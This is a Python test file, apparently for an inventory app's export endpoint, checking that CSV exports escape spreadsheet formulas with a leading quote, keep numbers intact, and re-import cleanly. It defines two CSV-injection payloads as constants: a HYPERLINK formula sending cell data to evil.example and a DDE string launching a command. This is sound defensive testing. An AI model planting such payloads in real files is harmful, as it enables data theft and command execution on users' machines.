"""A CSV export is safe to open in a spreadsheet (OWASP "CSV injection"): text that a spreadsheet
would run as a formula starts with a `'`, numbers stay numbers, NDJSON stays raw, and the CSV
still re-imports to the very same items."""

import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from storeroom.items.models import Item
from storeroom.items.schemas import item_create_from_csv_row
from tests.conftest import run_in_app
from tests.items.test_items_crud import create_item
from tests.items.test_items_export import EXPORT, as_csv_row, listed_items, my_id

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "+1+cmd|' /C calc'!A0"


def exported_csv(
    client: TestClient, headers: dict[str, str], **params: Any
) -> list[dict[str, str]]:
    """The CSV export read the way a user's tools would read it."""
    response = client.get(EXPORT, params={"format": "csv", **params}, headers=headers)
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


@pytest.mark.parametrize(
    ("fields", "column", "cell"),
    [
        ({"name": HYPERLINK}, "name", "'" + HYPERLINK),
        ({"description": DDE}, "description", "'" + DDE),
        ({"tags": ["@sum(1)", "-2+3"]}, "tags", "'@sum(1);-2+3"),
        ({"tags": ["-2+3", "@sum(1)"]}, "tags", "'-2+3;@sum(1)"),
        ({"description": "\t=1+2"}, "description", "'\t=1+2"),
        ({"description": "\r=1+2"}, "description", "'\r=1+2"),
    ],
    ids=["equals-name", "plus-description", "at-tag", "minus-tag", "tab", "carriage-return"],
)
def test_a_formula_in_another_users_catalog_exports_as_text(
    client: TestClient,
    alice: dict[str, str],
    admin: dict[str, str],
    fields: dict[str, Any],
    column: str,
    cell: str,
) -> None:
    create_item(client, alice, **fields)
    rows = exported_csv(client, admin, owner_id=my_id(client, alice))
    assert [row[column] for row in rows] == [cell]


def test_numbers_ids_and_timestamps_are_never_prefixed(
    client: TestClient, alice: dict[str, str]
) -> None:
    alices = my_id(client, alice)

    async def seed_a_negative_price() -> None:
        # The API refuses a negative price; a row like this one can only come from elsewhere
        # (an old import, a migration), and it must still export as a number.
        app: FastAPI = client.app  # type: ignore[assignment]
        now = datetime(2026, 1, 1, tzinfo=UTC)
        async with app.state.sessionmaker() as session, session.begin():
            session.add(
                Item(
                    owner_id=alices,
                    name="Refund",
                    price=Decimal("-3.50"),
                    tax=Decimal("0.00"),
                    tags_text="",
                    version=1,
                    created_at=now,
                    updated_at=now,
                )
            )

    run_in_app(client, seed_a_negative_price)
    create_item(client, alice, name="-3.50", price="0.50", tax="0")
    expected = listed_items(client, alice)
    rows = exported_csv(client, alice)
    assert [(row["price"], row["tax"]) for row in rows] == [("-3.50", "0.00"), ("0.50", "0.00")]
    for row, item in zip(rows, expected, strict=True):
        assert row["id"] == str(item["id"])
        assert (row["created_at"], row["updated_at"]) == (item["created_at"], item["updated_at"])
    # A name is text even when it looks like a number: it is quoted like any other text.
    assert rows[1]["name"] == "'-3.50"


def test_ndjson_export_keeps_the_values_as_they_are(
    client: TestClient, alice: dict[str, str]
) -> None:
    create_item(client, alice, name=HYPERLINK, description=DDE, tags=["@sum(1)", "-2+3"])
    create_item(client, alice, name="'abc", description="\t=1")
    response = client.get(EXPORT, params={"format": "ndjson"}, headers=alice)
    exported = [json.loads(line) for line in response.text.splitlines()]
    assert exported == listed_items(client, alice)
    assert [item["name"] for item in exported] == [HYPERLINK, "'abc"]
    assert exported[0]["description"] == DDE
    assert exported[0]["tags"] == ["@sum(1)", "-2+3"]


ROUND_TRIP: list[dict[str, Any]] = [
    {"name": HYPERLINK, "description": DDE, "tags": ["@sum(1)", "-2+3"]},
    {"name": "'=x", "description": "'abc", "tags": ["'x", "=y"], "price": "0", "tax": "19.6"},
    {"name": "'abc", "description": "'", "tags": ["''"], "price": "1234567.89"},
    {"name": "'", "description": "\t=1", "tags": ["'@sum(1)"]},
    {"name": "''=x", "description": "\r\n=1", "tags": ["+"]},
    {"name": "=", "description": "-", "tags": ["it's"]},
    {"name": "it's = fine", "description": None, "tags": []},
    {"name": "-3.50", "description": "@", "tags": ["-"]},
]


def test_an_exported_csv_re_imports_to_the_same_items(
    client: TestClient, alice: dict[str, str]
) -> None:
    created = [create_item(client, alice, **fields) for fields in ROUND_TRIP]
    rows = exported_csv(client, alice)
    assert rows == [as_csv_row(item) for item in created]
    imported = [item_create_from_csv_row(row) for row in rows]
    assert [
        (item.name, item.description, item.tags, str(item.price), str(item.tax))
        for item in imported
    ] == [
        (item["name"], item["description"], item["tags"], item["price"], item["tax"])
        for item in created
    ]


@pytest.mark.parametrize(
    ("cell", "name"),
    [("'=x", "=x"), ("''x", "'x"), ("'abc", "'abc"), ("x'", "x'"), ("'", "'")],
)
def test_import_removes_only_a_quote_that_protects_something(cell: str, name: str) -> None:
    assert item_create_from_csv_row({"name": cell, "price": "1"}).name == name
